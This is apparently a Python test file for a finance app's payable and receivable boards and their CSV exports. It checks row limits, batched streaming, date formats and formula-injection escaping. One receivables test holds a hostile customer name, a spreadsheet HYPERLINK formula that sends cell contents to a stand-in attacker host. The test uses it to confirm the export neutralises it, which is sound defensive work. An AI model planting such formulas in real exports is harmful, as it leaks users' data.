"""Boards and their CSV exports: a board shows at most BOARD_LIMIT titles and says how many there are in all; the
CSV streams every open title (read in batches) with the board's pt-BR group and situation labels, dates as
dd/mm/aaaa, and cells safe against formula injection (receivables as well as payables)."""
import csv
import io
from datetime import timedelta

import pytest

from blueprints.web import finance
from core.csv_export import csv_bytes, csv_stream
from core.formatting import today
from tests.finance.conftest import access_key
from tests.finance.test_pages import make_payable


@pytest.fixture
def client(login, make_user, fin_company):
    return login(make_user(fin_company, role="financeiro"))


def csv_rows(client, path) -> list[dict]:
    response = client.get(path)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.is_streamed
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def many_payables(company, count_of_120: int, **fields):
    """`count_of_120` × 120 monthly installments (the most one title takes), from today on."""
    for n in range(count_of_120):
        make_payable(company, descricao=f"Financiamento {n}", valor_centavos=120_000, parcela_total=120, **fields)


def emitted_receivable(fin_api, partner, due=None) -> None:
    document = fin_api.post("/billing/documents", json={
        "kind": "cte", "customer_partner_id": str(partner.id), "chave": access_key("57"),
        "valor_centavos": 10000}).get_json()["data"]
    body = {"document_ids": [document["id"]], "emit": True}
    if due is not None:
        body["vencimento_at"] = due.isoformat()
    assert fin_api.post("/billing/invoices", json=body).status_code == 201


# --- The board says what it does not show ----------------------------------------------------------

def test_a_board_over_the_limit_says_how_many_it_shows_and_the_csv_has_them_all(client, fin_company):
    make_payable(fin_company, descricao="Atrasado", vencimento_at=(today() - timedelta(days=2)).isoformat())
    many_payables(fin_company, 5)  # 600 more: 601 open titles
    page = client.get("/financeiro/pagar").get_data(as_text=True)
    assert 'data-testid="board-limit"' in page and "Mostrando 500 de 601 títulos em aberto" in page
    assert page.count('data-testid="board-row"') == finance.BOARD_LIMIT
    assert "Vencidos (1)" in page and "Atrasado" in page  # the nearest due first: the overdue is shown
    assert "Vencem hoje (5)" in page and "Depois (494 de 595)" in page  # each financing's first due today
    rows = csv_rows(client, "/financeiro/pagar.csv")
    assert len(rows) == 601 and rows[0]["Descrição"] == "Atrasado"


def test_a_board_under_the_limit_shows_everything_without_the_notice(client, fin_company):
    make_payable(fin_company, descricao="Só um")
    page = client.get("/financeiro/pagar").get_data(as_text=True)
    assert 'data-testid="board-limit"' not in page and "Vencem hoje (1)" in page and "Só um" in page


def test_the_receivables_board_counts_too(client, fin_api, customer):
    emitted_receivable(fin_api, customer, due=today() - timedelta(days=1))
    emitted_receivable(fin_api, customer, due=today() + timedelta(days=3))
    page = client.get("/financeiro/receber").get_data(as_text=True)
    assert "Vencidos (1)" in page and "Próximos 7 dias (1)" in page and 'data-testid="board-limit"' not in page


# --- The export reads every row, in batches --------------------------------------------------------

def test_the_export_crosses_batches_in_due_date_order_without_losing_or_repeating_a_row(client, fin_company,
                                                                                       monkeypatch):
    """Two financings share every due date (ties broken by id): batches of 7 must still give each row once."""
    monkeypatch.setattr(finance, "CSV_BATCH", 7)
    for n in range(2):
        make_payable(fin_company, descricao=f"Lote {n}", valor_centavos=2400, parcela_total=24)
    rows = csv_rows(client, "/financeiro/pagar.csv")
    assert len(rows) == 48
    assert sorted((r["Descrição"], r["Parcela"]) for r in rows) == sorted(
        (f"Lote {n}", f"{i}/24") for n in range(2) for i in range(1, 25))
    days = [tuple(reversed(r["Vencimento"].split("/"))) for r in rows]
    assert days == sorted(days)


def test_csv_stream_chunks_are_the_whole_csv():
    rows = [[n, f"=x{n}"] for n in range(5)]
    chunks = list(csv_stream(("a", "b"), rows, chunk_rows=2))
    assert len(chunks) == 3  # two rows per chunk (the header with the first two), then the last row
    assert b"".join(chunks) == csv_bytes(("a", "b"), rows)
    assert b"".join(chunks).decode("utf-8-sig").splitlines()[1] == "0;'=x0"


# --- Labels and dates as the board shows them ------------------------------------------------------

def test_the_csv_prints_group_and_situation_labels_and_dates_as_dd_mm_aaaa(client, fin_company):
    overdue = today() - timedelta(days=3)
    make_payable(fin_company, descricao="Atrasado", vencimento_at=overdue.isoformat())
    make_payable(fin_company, descricao="Hoje")
    make_payable(fin_company, descricao="Semana", vencimento_at=(today() + timedelta(days=5)).isoformat())
    make_payable(fin_company, descricao="Longe", vencimento_at=(today() + timedelta(days=40)).isoformat())
    rows = {r["Descrição"]: r for r in csv_rows(client, "/financeiro/pagar.csv")}
    assert {name: r["Grupo"] for name, r in rows.items()} == {
        "Atrasado": "Vencidos", "Hoje": "Vencem hoje", "Semana": "Próximos 7 dias", "Longe": "Depois"}
    assert rows["Atrasado"]["Vencimento"] == overdue.strftime("%d/%m/%Y")
    assert rows["Atrasado"]["Situação"] == "Vencido" and rows["Hoje"]["Situação"] == "Aberto"
    for row in rows.values():  # no internal key, no ISO date anywhere
        assert row["Grupo"] not in ("vencidos", "hoje", "semana", "depois")
        assert "-" not in row["Vencimento"]


# --- Formula injection in the receivables export ---------------------------------------------------

def test_the_receivables_csv_neutralises_a_customer_named_as_a_formula(client, fin_api, fin_company, make_partner):
    hostile = make_partner(fin_company, legal_name='=HYPERLINK("http://evil.example/?x="&A1,"clique")')
    plain = make_partner(fin_company, legal_name="Cliente Comum Ltda")
    emitted_receivable(fin_api, hostile)
    emitted_receivable(fin_api, plain)
    text = client.get("/financeiro/receber.csv").data.decode("utf-8-sig")
    names = {r["Cliente"] for r in csv.DictReader(io.StringIO(text), delimiter=";")}
    assert names == {"'" + hostile.legal_name, "Cliente Comum Ltda"}  # only the formula gets the quote
    assert ";=HYPERLINK" not in text and '"=HYPERLINK' not in text
